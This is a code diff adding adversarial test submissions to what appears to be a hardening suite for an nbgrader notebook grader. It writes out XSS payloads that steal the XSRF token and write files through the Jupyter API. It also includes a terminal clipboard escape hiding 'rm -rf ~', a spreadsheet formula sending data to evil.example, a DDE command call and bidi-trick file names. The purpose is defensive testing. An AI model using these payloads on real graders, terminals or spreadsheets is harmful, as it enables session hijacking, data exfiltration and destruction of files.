@@ -41,6 +41,10 @@ class Attack:
     status: str | None = "flagged"
     reason: str = ""
     sandbox_only: bool = False
+    # Surfaces (issue 12): roster fields of this student, and whether the attack
+    # targets what the grader shows (checked by tests/grader/test_render_attacks.py).
+    roster: dict = field(default_factory=dict)        # first_name, last_name, email, id_number
+    surface: bool = False
 
     def honest_points(self, student: str) -> float:
         if self.copies:
@@ -371,6 +375,40 @@ def _corrupt() -> bytes:
     return text[: len(text) // 2].encode()
 
 
+#: Surfaces (issue 12): each payload sets window.__pwned and the page title, and
+#: tries to write a file through the Jupyter server's API as the instructor.
+PWN = ("window.__pwned=1;document.title='PWNED';fetch('/api/contents/pwned-'+Date.now()+"
+       "'.txt',{method:'PUT',headers:{'Content-Type':'application/json','X-XSRFToken':"
+       "(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||''},"
+       "body:JSON.stringify({type:'file',format:'text',content:'x'})})")
+_XSS_MARKDOWN = (f"Weak ties carry news from other circles.\n\n<img src=x onerror=\"{PWN}\">"
+                 f"<script>{PWN}</script>\n\n<iframe srcdoc=\"<script>parent.{PWN}</script>\">"
+                 "</iframe>\n\n[my sources](javascript:window.__pwned=1)")
+_XSS_HTML = f'<b onmouseover="{PWN}">hover</b><img src=x onerror="{PWN}">'
+_XSS_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1">'
+            '<script>window.__pwned=1</script><circle r="4"/></svg>')
+_XSS_OUTPUTS = ("from IPython.display import HTML, Javascript, SVG, display\n"
+                f"display(HTML({_XSS_HTML!r}))\n"
+                f"display(Javascript({PWN!r}))\n"
+                f"display(SVG({_XSS_SVG!r}))")
+_XSS_NAME = f"<img src=x onerror=\"{PWN}\">"
+_CONTROL_NAME = "notes\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07[/].txt"
+
+
+def _markup_grade_ids(nb):
+    for gid in ("[/]", "x\x1b]52;c;cm0gLXJmIH4K\x07[bold]", f'"><script>{PWN}</script>'):
+        cell = nbformat.v4.new_code_cell("pass")
+        cell.metadata["nbgrader"] = {"grade": True, "grade_id": gid, "locked": True,
+                                     "points": 5, "schema_version": 3, "solution": False,
+                                     "task": False}
+        nb.cells.append(cell)
+
+
+_BIG_IMAGE = ("import base64, os\nfrom IPython.display import Image, display\n"
+              "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(3 * 2**20), "
+              "format='png'))")
+
+
 ATTACKS = [
     Attack("input-transformer", "an input transformer turns every later cell, tests included, "
            "into `pass` (full marks with blank answers in stock nbgrader)",
@@ -534,6 +572,31 @@ ATTACKS = [
     Attack("nan-answer", "NaN, for which every comparison is false",
            answers={**FULL, "answer-share": "share_strong = float('nan')"}, honest=5.0,
            status=None),
+
+    # ---- Surfaces: what the grader shows (issue 12). Each earns what its answers earn.
+    Attack("formgrader-script", "markdown, HTML, JavaScript and SVG that try to run in the "
+           "formgrader and the feedback page (img onerror, script, iframe srcdoc, javascript: "
+           "link, display(HTML), display(Javascript), SVG with a script)",
+           answers={**FULL, "reflection": _XSS_MARKDOWN}, extra_cells=[("answer-share",
+                                                                       _XSS_OUTPUTS)],
+           honest=7.0, status=None, surface=True),
+    Attack("markup-in-names", "a roster name that is HTML and a grade id made of rich markup "
+           "and terminal escapes", answers=FULL, mutate=_markup_grade_ids, honest=7.0,
+           roster={"first_name": "Mallory", "last_name": _XSS_NAME}, reason="grade id",
+           surface=True),
+    Attack("control-file-names", "ships files whose names hold terminal escapes (an OSC 52 "
+           "clipboard write, a title change) and bidi overrides", answers=FULL,
+           files={_CONTROL_NAME: "x", "\u202etxt.exe": "x"}, honest=7.0, status=None,
+           surface=True),
+    Attack("spreadsheet-formulas", "roster fields that a spreadsheet would run as formulas",
+           answers=FULL, honest=7.0, status=None, surface=True,
+           roster={"first_name": "=HYPERLINK(\"http://evil.example/\"&A1,\"Eve\")",
+                   "last_name": "+cmd|' /C calc'!A0", "email": "@SUM(1+1)@example.org",
+                   "id_number": "-2+3"}),
+    Attack("oversized-for-feedback", "thousands of cells and a large image, to make the "
+           "feedback page slow and huge", answers=FULL,
+           extra_cells=[("answer-share", _BIG_IMAGE)] + [("answer-share", "pass")] * 1200,
+           honest=7.0, status=None, surface=True),
 ]
 
 
